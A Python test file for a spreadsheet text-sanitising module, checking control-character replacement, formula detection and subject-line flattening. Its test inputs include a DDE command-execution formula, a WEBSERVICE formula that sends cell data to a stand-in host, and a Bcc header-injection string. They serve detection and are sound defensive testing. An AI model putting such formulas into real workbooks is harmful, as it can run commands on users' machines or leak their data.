"""The one decision every writer takes for a text from a workbook (xl_tools.core.safe_text)."""

from __future__ import annotations

import pytest

from xl_tools.core.safe_text import cell_text, formula_like, one_line, visible


@pytest.mark.parametrize("text, shown", [
    ("医保\x01经办", "医保\u2401经办"),          # U+0001 (what _x0001_ decodes to) becomes ␁
    ("a\x0bb", "a\u240bb"),                     # vertical tab, _x000B_
    ("\x00", "\u2400"),
    ("x\ufffey\uffff", "x\ufffdy\ufffd"),       # the two non-characters
    ("lone \ud800 half", "lone \ufffd half"),    # a lone surrogate (openpyxl decodes _xD800_ to one)
    ("tab\tLF\nCR\r", "tab\tLF\nCR\r"),         # what XML carries stays
    ("项目名称", "项目名称"),
])
def test_visible_replaces_what_xml_cannot_carry_and_keeps_the_rest(text: str, shown: str) -> None:
    assert visible(text) == shown


@pytest.mark.parametrize("text", ["=cmd|'/Ccalc'!A0", "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx",
                                  '=WEBSERVICE("http://example.invalid/"&A1)'])
def test_texts_excel_would_read_as_formulas_are_marked(text: str) -> None:
    assert formula_like(text) and cell_text(text) == (text, True)


@pytest.mark.parametrize("text", ["项目=1", "2023-12", "123456789012345678901", " =x", "＝1", "'=x", ""])
def test_other_texts_are_not_marked(text: str) -> None:
    assert not formula_like(text)


def test_a_control_character_in_front_is_made_visible_before_deciding() -> None:
    assert cell_text("\x01=1") == ("\u2401=1", False)


def test_one_line_joins_lines_for_a_subject() -> None:
    assert one_line("渝中区\r\nBcc: x@example.com\x01") == "渝中区 Bcc: x@example.com\u2401"
